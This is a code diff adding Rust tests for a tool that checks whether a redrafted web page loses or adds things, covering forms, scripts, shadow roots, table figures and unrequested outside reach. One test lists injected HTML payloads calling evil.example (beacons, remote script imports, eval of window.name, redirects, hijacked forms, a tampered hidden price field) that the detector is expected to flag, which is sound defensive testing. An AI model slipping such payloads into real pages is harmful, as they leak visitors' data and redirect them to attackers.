@@ -212,3 +212,138 @@ fn what_no_place_of_the_window_shows_is_not_in_sight() {
         .replace("are empty.</p>", "are empty.</p></noscript>");
     assert!(lost(&scripted, None).contains(&LossKind::Words));
 }
+
+#[test]
+fn what_a_draft_reaches_out_of_sight_and_nobody_asked_for_is_told() {
+    for part in [
+        "<script>navigator.sendBeacon('https://evil.example/v')</script>",
+        "<script type=\"module\">import 'https://evil.example/t.js'</script>",
+        "<script>eval(window.name)</script>",
+        "<svg width=\"9\" height=\"9\"><script>fetch('//evil.example/')</script></svg>",
+        "<img src=\"https://evil.example/p.gif\" alt=\"\" width=\"1\" height=\"1\">",
+        "<iframe src=\"https://evil.example/\" title=\"Weather\"></iframe>",
+        "<iframe srcdoc=\"&lt;script src=https://evil.example/t.js&gt;&lt;/script&gt;\" title=\"Weather\"></iframe>",
+        "<object data=\"https://evil.example/x\"></object>",
+        "<base href=\"https://evil.example/\">",
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
+        "<p onmouseover=\"fetch('https://evil.example/')\">Every bowl is signed.</p>",
+        "<a ping=\"https://evil.example/p\" href=\"/about\">About us</a>",
+        "<form action=\"https://evil.example/\"><label>Mail <input name=\"m\"></label> <button>Send</button></form>",
+        "<p style=\"display:none\"><a href=\"https://casino.example/\">bonus</a></p>",
+    ] {
+        let draft = with("</main>", &format!("{part}</main>"));
+        assert_eq!(lost(&draft, None), [LossKind::Reach], "{part}");
+    }
+    let field = "<input type=\"hidden\" name=\"price\" value=\"900\"><button>Order bread</button>";
+    assert_eq!(lost(&with("<button>Order bread</button>", field), None), [LossKind::Reach]);
+    for part in [
+        "<script>document.title = 'Bread'; // https://comment.example/</script>",
+        "<script src=\"https://stats.example/more.js\"></script>",
+        "<script>var ns = 'http://www.w3.org/2000/svg';</script>",
+        "<a href=\"https://maps.example/leipzig\">Where we are</a>",
+        "<img src=\"https://pictures.example/loaf.jpg\" alt=\"A loaf\" width=\"300\" height=\"200\">",
+        "<form action=\"/search\"><label>Search <input name=\"q\" type=\"search\"></label> <button>Search</button></form>",
+        "<a class=\"skip\" style=\"position:absolute;left:-999px\" href=\"#bread\">Skip to the bread</a>",
+    ] {
+        let draft = with("</main>", &format!("{part}</main>"));
+        assert_eq!(lost(&draft, None), [], "{part}");
+    }
+    let map = "<iframe src=\"https://www.openstreetmap.org/export\" title=\"Map\"></iframe></main>";
+    assert_eq!(lost(&with("</main>", map), Some("Add a map of where we are.")), []);
+    let script = "<script src=\"https://plausible.io/js/script.js\"></script></main>";
+    assert_eq!(lost(&with("</main>", script), Some("We want Plausible on the page.")), []);
+}
+
+#[test]
+fn a_form_that_sends_something_else_is_another_one() {
+    let page = PAGE.replace("type=\"email\">", "type=\"email\" required>").replace(
+        "<button>Order bread</button>",
+        "<label><input type=\"checkbox\" name=\"news\" value=\"1\"> News</label>\
+         <label for=\"size\">Size</label><select id=\"size\" name=\"size\"><option>Small</option><option>Large</option></select>\
+         <button>Order bread</button>",
+    );
+    let lost = |was: &str, now: &str| -> Vec<LossKind> {
+        assert!(page.contains(was), "{was}");
+        let draft = page.replace(was, now);
+        let given = GivenPage { page: &page, brief: None };
+        let losses = losses(given, &draft, &Beside::nothing()).expect("both can be laid out");
+        losses.into_iter().map(|loss| loss.kind).collect()
+    };
+    for (was, now) in [
+        (" required>", ">"),
+        ("name=\"news\" value=\"1\"", "name=\"news\" value=\"1\" checked"),
+        ("<option>Large", "<option selected>Large"),
+        ("<button>Order", "<button type=\"button\">Order"),
+        ("<button>Order", "<button formmethod=\"get\">Order"),
+        ("method=\"post\"", "method=\"post\" enctype=\"text/plain\""),
+        ("method=\"post\"", "method=\"post\" inert"),
+        ("type=\"email\" required", "type=\"email\" readonly required"),
+    ] {
+        assert_eq!(lost(was, now), [LossKind::Forms], "{now}");
+    }
+    for (was, now) in [
+        ("<option>Large</option>", "<option>Large</option><option>Huge</option>"),
+        (
+            "type=\"email\" required",
+            "type=\"email\" autocomplete=\"email\" required aria-describedby=\"hint\"",
+        ),
+        ("<option>Small", "<option selected>Small"),
+        ("<button>Order", "<button type=\"submit\">Order"),
+        ("value=\"1\"> News", "value=\"1\" required> News"),
+    ] {
+        assert_eq!(lost(was, now), [], "{now}");
+    }
+}
+
+#[test]
+fn what_a_shadow_takes_the_place_of_is_not_in_sight() {
+    let draft = with("<main>", "<main><template shadowrootmode=\"open\"><h1>Closed</h1></template>");
+    assert!(lost(&draft, None).contains(&LossKind::Page));
+    let draft = with("</main>", "</main><div><template shadowrootmode=\"open\"><p>New</p></template></div>");
+    assert_eq!(lost(&draft, None), []);
+}
+
+#[test]
+fn a_script_that_is_not_carried_out_any_more_is_gone() {
+    for (was, now) in [
+        ("<script>function", "<script type=\"text/plain\">function"),
+        ("<script>function", "<noscript><script>function"),
+    ] {
+        assert!(lost(&with(was, now), None).contains(&LossKind::Scripts), "{now}");
+    }
+}
+
+#[test]
+fn a_figure_of_a_table_belongs_to_its_row_and_its_column() {
+    let table = |rows: &str| PAGE.replace("</main>", &format!("<table>{rows}</table></main>"));
+    let page = table(
+        "<tr><th>Loaf</th><th>Shop</th><th>Market</th></tr>\
+         <tr><th>Rye</th><td>5 euros</td><td>6 euros</td></tr><tr><th>Spelt</th><td>7 euros</td><td>8 euros</td></tr>",
+    );
+    let lost = |rows: &str| -> Vec<LossKind> {
+        let given = GivenPage { page: &page, brief: None };
+        let losses = losses(given, &table(rows), &Beside::nothing()).expect("both can be laid out");
+        losses.into_iter().map(|loss| loss.kind).collect()
+    };
+    for rows in [
+        "<tr><th>Loaf</th><th>Market</th><th>Shop</th></tr>\
+         <tr><th>Rye</th><td>5 euros</td><td>6 euros</td></tr><tr><th>Spelt</th><td>7 euros</td><td>8 euros</td></tr>",
+        "<tr><th>Loaf</th><th>Shop</th><th>Market</th></tr>\
+         <tr><th>Spelt</th><td>5 euros</td><td>6 euros</td></tr><tr><th>Rye</th><td>7 euros</td><td>8 euros</td></tr>",
+        "<tr><th>Loaf</th><th>Shop</th><th>Market</th></tr>\
+         <tr><th>Rye</th><td>6 euros</td><td>5 euros</td></tr><tr><th>Spelt</th><td>7 euros</td><td>8 euros</td></tr>",
+    ] {
+        assert_eq!(lost(rows), [LossKind::Figures], "{rows}");
+    }
+    for rows in [
+        // Columns, rows, and both.
+        "<tr><th>Loaf</th><th>Market</th><th>Shop</th></tr>\
+         <tr><th>Rye</th><td>6 euros</td><td>5 euros</td></tr><tr><th>Spelt</th><td>8 euros</td><td>7 euros</td></tr>",
+        "<tr><th>Loaf</th><th>Shop</th><th>Market</th></tr>\
+         <tr><th>Spelt</th><td>7 euros</td><td>8 euros</td></tr><tr><th>Rye</th><td>5 euros</td><td>6 euros</td></tr>",
+        "<thead><tr><th>Loaf</th><th>Rye</th><th>Spelt</th></tr></thead>\
+         <tbody><tr><th>Shop</th><td><b>5</b> euros</td><td>7 euros</td></tr><tr><th>Market</th><td>6 euros</td><td>8 euros</td></tr></tbody>",
+    ] {
+        assert_eq!(lost(rows), [], "{rows}");
+    }
+}
